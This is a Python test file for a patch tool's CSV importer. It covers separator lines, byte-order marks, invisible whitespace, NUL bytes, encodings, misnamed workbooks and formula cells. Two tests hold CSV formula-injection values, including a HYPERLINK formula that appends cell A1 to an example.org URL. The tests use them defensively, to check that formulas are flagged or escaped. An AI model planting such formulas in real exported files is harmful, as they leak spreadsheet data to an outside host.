# SPDX-License-Identifier: MIT
"""What spreadsheet programs put around the data of a CSV file."""

import io
import unittest
import zipfile

from upkeep_test import TestCase, module_server

MAP = '[columns]\nNo = "number"\nPlatform = "platform"\nClient = "client"\n'


class ImportSheetsTest(TestCase):
    def setUp(self):
        self.installation = self.open_installation(module_server())
        self.directory = self.make_directory()
        self.map = self.directory / "map.toml"
        self.map.write_text(MAP)

    def run_tool(self, *args, **options):
        return self.installation.run("pmt-patch", *args, **options)

    def take(self, text, status=0):
        path = self.directory / "sheet.csv"
        path.write_bytes(text if isinstance(text, bytes) else text.encode())
        self.installation.server.sql("DELETE FROM patch; DELETE FROM event", schema="upkeep")
        result = self.assert_status(self.run_tool("import", "--map", self.map, path), status)
        rows = self.run_tool("list", "--json", "--fields", "number,client").json
        return {row["number"]: (row["client"] or [None])[0] for row in rows}, result

    def test_a_line_that_names_the_separator(self):
        for first, separator in [("sep=;", ";"), ('"sep=;"', ";"), ("SEP=|", "|"), ("sep=\t", "\t"), ("sep=,", ","),
                                 ("\ufeffsep=;", ";")]:
            with self.subTest(first):
                rows = [first, separator.join(["No", "Platform", "Client"]), separator.join(["1", "4.2.0", "Acme"])]
                stored, result = self.take("\r\n".join(rows) + "\r\n")
                self.assertEqual((stored, result.stderr), ({1: "Acme"}, ""))
        stored, result = self.take("sep=;\nNo;Platform;Client\n1;;Acme\n", status=2)
        self.assertIn("line 3:", result.stderr)

    def test_rejects_keep_the_separator(self):
        """One that would not be found without the line that names it."""
        rejects = self.directory / "rejects.csv"
        for head in ("sep=^\n", "\ufeffSEP=^\r\nOur patches\r\n"):
            with self.subTest(head):
                path = self.directory / "table.csv"
                path.write_bytes((head + "No^Platform^Client\n1^4.2.0^Acme\n2^nowhere^Müller, Ltd\n").encode())
                self.installation.server.sql("DELETE FROM patch; DELETE FROM event", schema="upkeep")
                self.assert_status(self.run_tool("import", "--map", self.map, path, "--rejects", rejects), 2)
                rejects.write_text(rejects.read_text().replace("nowhere", "4.4.0"))
                result = self.assert_quiet(self.run_tool("import", "--map", self.map, rejects))
                self.assertEqual(result.rows[0][1:], ["1", "1", "0", "0"])
                self.assertEqual(self.run_tool("list", "--json", "number=2", "--fields", "client").json,
                                 [{"client": ["Müller, Ltd"]}])

    def test_rows_without_data_are_no_rows(self):
        stored, result = self.take(
            "Our patches;;\n;;\nNo;Platform;Client\n;;\n1;4.2.0;Acme;;;\n;\n \t;\u00a0;\n\n;;;;;\n"
        )
        self.assertEqual((stored, result.rows[0][1:]), ({1: "Acme"}, ["1", "1", "0", "0"]))

    def test_blanks_that_nobody_sees(self):
        stored, _ = self.take(
            "No,\u00a0Platform ,Client\n\u00a01\u200b,4.2.0\ufeff,\u3000Acme \u2009\n2,4.2.0,A\u00a0B\n"
        )
        self.assertEqual(stored, {1: "Acme", 2: "A\u00a0B"})
        stored, _ = self.take(b"No,Platform,Client\n1,4.2.0,\xa0M\xfcller\xa0\n")
        self.assertEqual(stored, {1: "Müller"})

    def test_cells_that_are_saved_as_formulas(self):
        stored, result = self.take('No,Platform,Client\n="0002",4.2.0,"=HYPERLINK(""http://x/?a=b"",""Acme"")"\n'
                                   '"=""3""",4.2.0,"=HYPERLINK(""http://x"")"\n4,4.2.0,=> see below\n5,4.2.0,=A1&B1\n'
                                   '6,4.2.0,"=SUM(A1,A2)"\n7,4.2.0,=2+3\n', status=2)
        self.assertEqual(stored, {2: "Acme", 3: "http://x", 4: "=> see below"})
        self.assertEqual(result.stderr.count("is a formula"), 3)

    def test_what_a_spreadsheet_must_not_read_comes_back(self):
        value = '=HYPERLINK("http://example.org/?"&A1,"click")'
        path = self.directory / "own.csv"
        path.write_text(
            f"patch,overview_client,overview_description\n4.2.0-1,'+1,\"'{value.replace(chr(34), chr(34) * 2)}\"\n"
            "4.2.0-2,'tis,''=\n"
        )
        self.assert_status(self.run_tool("import", path), 0)
        rows = self.run_tool("list", "--json", "--fields", "client,overview_description").json
        self.assertEqual(rows, [{"client": ["+1"], "overview_description": value},
                                {"client": ["'tis"], "overview_description": "'="}])

    def test_columns_without_a_header(self):
        _, result = self.take("No,Platform,Client,\n1,4.2.0,Acme,x\n", status=2)
        self.assertIn("column 4 has no header", result.stderr)
        self.map.write_text("ignore_other_columns = true\n" + MAP)
        self.assertEqual(self.take("No,Platform,Client,\n1,4.2.0,Acme,x\n")[0], {1: "Acme"})

    def test_nul(self):
        stored, result = self.take("No,Platform,Client\n1,4.2.0,Ac\0me\n2,4.2.0,Acme\n", status=2)
        self.assertEqual(stored, {2: "Acme"})
        self.assertIn("line 2: it contains a NUL", result.stderr)
        wide = "No;Platform;Client\n1;4.2.0;Müller\n".encode("utf-16-le")
        self.assertIn("UTF-16", self.take(wide, status=65)[1].stderr)
        self.assertEqual(self.take(b"\xff\xfe" + wide)[0], {1: "Müller"})
        self.map.write_text('encoding = "UTF-16LE"\n' + MAP)
        self.assertEqual(self.take(wide)[0], {1: "Müller"})

    def test_workbooks_are_named(self):
        book = io.BytesIO()
        with zipfile.ZipFile(book, "w") as archive:
            archive.writestr("[Content_Types].xml", "<Types/>")
            archive.writestr("xl/workbook.xml", "<workbook/>")
        for name, data, part in [
            ("old.xlsx", book.getvalue(), "xlsx2csv -f %Y-%m-%d"),
            ("old.csv", book.getvalue(), "xlsx2csv"),
            ("old.xls", b"\xd0\xcf\x11\xe0" + b"\0" * 600, "save it as CSV"),
            ("old.csv", b"\x1f\x8b\x08" + b"\0" * 60, "gzip -dc"),
        ]:
            path = self.directory / name
            path.write_bytes(data)
            for args in (["import", path], ["import", "--suggest-map", path], ["import", "--map", self.map, path]):
                with self.subTest((name, args)):
                    self.assert_error(self.run_tool(*args), 65, part)
        error = self.run_tool("import", self.directory / "old.xlsx").stderr
        self.assertIn("old.xlsx | pmt-patch import --as csv --map MAP.toml -", error)

    def test_csv_from_a_pipe(self):
        text = "No,Platform,Client\n1,4.2.0,Acme\n"
        for args in (["--as", "csv"], []):
            result = self.assert_status(self.run_tool("import", "--map", self.map, *args, "-", stdin=text), 0)
            self.assertEqual(result.rows[0][1], "1")


if __name__ == "__main__":
    unittest.main()
